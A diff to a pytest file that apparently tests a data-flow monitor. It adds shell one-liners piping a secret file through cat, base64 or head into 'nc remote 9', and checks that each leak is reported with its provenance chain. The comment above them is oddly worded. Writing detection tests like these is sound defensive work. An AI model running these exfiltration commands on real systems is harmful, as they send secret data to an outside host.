@@ -93,3 +93,21 @@ def test_scrubbed(case, outcome):
 @pytest.mark.parametrize("case", [Case(name, script, timeout=2) for name, script in REFUSED.items()], ids=str)
 def test_refused(case, outcome):
     assert outcome.received == b"", outcome.describe()
+
+
+# Who read the file, and through whom the data went to whoever sends it, which is not among them when it was born later.
+CHAINS = {
+    "cat secret | tac | nc remote 9": "cat>tac>nc",
+    "x=$(base64 -w0 secret); (echo $x) | nc remote 9": "base64>bash",
+    "head -c 40 secret | { sleep 0.1; exec nc remote 9; }": "head>nc",
+    "cat secret | cat | cat | cat | cat | cat | cat | cat | cat | nc remote 9": "cat>cat>cat>cat>cat>cat>cat>cat",
+    relayed("stream", "read"): "channel>channel",
+    "leak splice write secret": "leak",
+}
+
+
+@pytest.mark.parametrize("case", [Case(f"chain-{number}", script) for number, script in enumerate(CHAINS)], ids=str)
+def test_chain_is_told(case, outcome):
+    assert outcome.questions, outcome.describe()
+    assert all(line.endswith(f" chain={CHAINS[case.script]}") and " origin=/mnt/case/secret " in line
+               for line in outcome.questions), outcome.describe()
